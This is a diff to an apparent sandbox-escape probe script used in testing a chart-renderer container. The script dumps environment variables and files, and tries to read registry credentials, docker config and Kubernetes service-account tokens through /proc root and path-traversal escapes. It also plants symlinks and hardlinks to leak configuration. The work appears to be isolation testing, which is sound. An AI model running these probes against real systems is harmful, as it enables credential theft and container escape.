@@ -24,14 +24,14 @@ chart() {
 everything() {
     $bb env
     $bb cat /proc/self/mountinfo
-    $bb find / -xdev -type f -size -64k ! -path '/proc/*' ! -path '/sys/*' ! -path '/tmp/*' 2>/dev/null |
+    $bb find / -xdev -type f -size -64k ! -path '/proc/*' ! -path '/sys/*' ! -path '/tmp/*' ! -name hostile.sh 2>/dev/null |
         while read -r file; do echo "FILE $file"; $bb head -c 4096 "$file" 2>/dev/null; echo; done
     # Mounts of their own, which -xdev leaves out.
     for file in /etc/renderer/*; do echo "FILE $file"; $bb head -c 4096 "$file" 2>/dev/null; echo; done
     $bb ls -laR /etc/renderer /var/run /run /chart /tmp /dev /mnt /media /home /root 2>&1
     for place in "" /proc/1/root /proc/self/root /proc/1/cwd /proc/self/cwd /proc/2/root /chart/.. /chart/../../..; do
-        for name in credentials/password credentials/username credentials/config.json dockerconfig.json push/url; do
-            $bb cat "$place/etc/renderer/$name" && echo "READ $place/etc/renderer/$name"
+        for secret in credentials/password credentials/username credentials/config.json dockerconfig.json push/url; do
+            $bb cat "$place/etc/renderer/$secret" && echo "READ $place/etc/renderer/$secret"
         done
         $bb cat "$place/var/run/secrets/kubernetes.io/serviceaccount/token" && echo "READ $place token"
     done 2>&1
@@ -74,6 +74,12 @@ look)
     ;;
 link)
     $bb ln -s "$(field target)" /chart/chart.tgz
+    ;;
+linkchart)
+    echo linked >/tmp/loot
+    chart "$name" /tmp/loot linked
+    $bb mv /chart/chart.tgz /chart/elsewhere.tgz
+    $bb ln -s elsewhere.tgz /chart/chart.tgz
     ;;
 hardlink)
     $bb ln /etc/renderer/config.json /chart/chart.tgz 2>/dev/null && echo "LINKED the configuration"
